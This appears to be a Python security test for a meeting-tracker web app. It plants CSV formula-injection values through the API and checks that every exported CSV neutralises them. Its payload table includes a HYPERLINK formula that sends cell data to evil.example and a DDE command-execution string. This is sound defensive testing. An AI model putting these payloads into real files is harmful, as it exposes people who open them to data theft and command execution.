"""CSV formula cells: hostile meeting titles, speakers, delegations, roles, segments,
quotes, memos and missed opportunities, planted through the API; then every CSV the
app serves is read cell by cell. Unexpected: a text cell a spreadsheet would run
(starting with = + - @, a tab or a carriage return) that is not a number."""

from __future__ import annotations

import csv
import io
import re

from .tally import Tally
from .web import Target

STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")
HOSTILE = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+": "+SUM(1+1)",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}
SYMBOL = "SC/99177"
DASH_PASSAGE = "- the Assembly must act"


def runs_as_formula(cell: str) -> bool:
    """What a spreadsheet would compute: a formula start that is not a plain number."""
    return cell.startswith(STARTS) and not NUMBER.fullmatch(cell)


def release_text() -> str:
    from tests.tracker.imports import press_release_samples as samples

    text = samples.SECURITY_COUNCIL.replace("SC/13553", SYMBOL)
    return text.replace(
        "Also speaking were",
        f"The representative of Peru said:  {DASH_PASSAGE}, and now.\n\nAlso speaking were",
    )


def plant(target: Target) -> int:
    """Import the hostile meeting and code it; returns its id."""
    admin = target.browser("administrator")
    preview = admin.post("/api/imports/preview/", json={"text": release_text()}).json()
    orders = [s["order"] for s in preview["statements"]]
    starts = list(HOSTILE.values())
    corrections = [
        {
            "order": order,
            "speaker": {"name": starts[i % 6]},
            "delegation": starts[(i + 1) % 6],
            "role": starts[(i + 2) % 6],
            "segment": starts[(i + 3) % 6],
            "on_behalf_of": starts[(i + 4) % 6],
        }
        for i, order in enumerate(orders)
    ]
    saved = admin.post(
        "/api/imports/",
        json={
            "text": release_text(),
            "meeting": {"title": HOSTILE["="]},
            "statements": corrections,
        },
    )
    if saved.status_code not in (200, 201):
        raise RuntimeError(f"the hostile import failed: {saved.status_code} {saved.text[:300]}")
    from tracker.models import Meeting

    meeting = Meeting.objects.get(symbol=SYMBOL)
    analyst = target.browser("analyst_a")
    codes = {
        c["slug"]: c["id"]
        for c in analyst.get("/api/codes/", params={"page_size": 500}).json()["results"]
    }
    for i, statement in enumerate(meeting.statements.order_by("order")):
        text = statement.text
        phrase = DASH_PASSAGE if DASH_PASSAGE in text else text.split()[0]
        start = text.index(phrase)
        for slug in ("protection", "victim-centred"):
            analyst.post(
                "/api/annotations/",
                json={
                    "statement": statement.pk,
                    "code": codes[slug],
                    "start": start,
                    "end": start + len(phrase),
                    "memo": starts[i % 6],
                },
            )
    for mark in starts:
        analyst.post(
            "/api/missed-opportunities/",
            json={
                "meeting": meeting.pk,
                "title": mark,
                "rationale": mark,
                "codes": [codes["protection"]],
            },
        )
    return meeting.pk


def csv_paths(meeting: int, other: int) -> list[str]:
    from annotations.reports.tables import TABLES

    paths = [
        "/api/export/annotations.csv",
        f"/api/export/annotations.csv?meeting={meeting}",
        "/api/export/annotations.csv?bom=1",
    ]
    paths += [f"/meetings/{meeting}/report/{name}.csv" for name in TABLES]
    paths += [
        f"/reports/compare.csv?meetings={meeting},{other}",
        "/monitoring/search.csv?q=said",
        "/monitoring/delegations/peru.csv",
        "/monitoring/delegations/france.csv",
        "/monitoring/gender-index.csv",
        "/monitoring/trends.csv?code=protection",
        "/monitoring/trends/briefers.csv?code=protection",
        "/monitoring/passages.csv?coded=protection",
        f"/monitoring/passages.csv?coded=protection&meeting={meeting}",
        "/monitoring/matrix.csv?columns=delegation",
        "/monitoring/matrix.csv?columns=meeting",
        "/monitoring/segments.csv?code=protection,victim-centred",
    ]
    return paths


def attack(target: Target, tally: Tally) -> None:
    from tracker.models import Meeting

    meeting = plant(target)
    other = Meeting.objects.exclude(pk=meeting).order_by("pk").first().pk
    reader = target.browser("reviewer")
    cells = neutralised = files = 0
    for path in csv_paths(meeting, other):
        response = reader.get(path)
        if not tally.check(response.status_code == 200, f"{path}: {response.status_code}"):
            continue
        files += 1
        text = response.content.decode("utf-8-sig")
        for row in csv.reader(io.StringIO(text, newline="")):
            for cell in row:
                cells += 1
                if cell.startswith("'") and cell[1:].startswith(STARTS):
                    neutralised += 1
                tally.check(not runs_as_formula(cell), f"{path}: cell {cell[:40]!r}")
    tally.note(f"{files} CSVs, {cells:,} cells read, {neutralised:,} hostile cells neutralised")
    tally.check(neutralised > 0, "no planted cell reached any CSV (the check would be vacuous)")
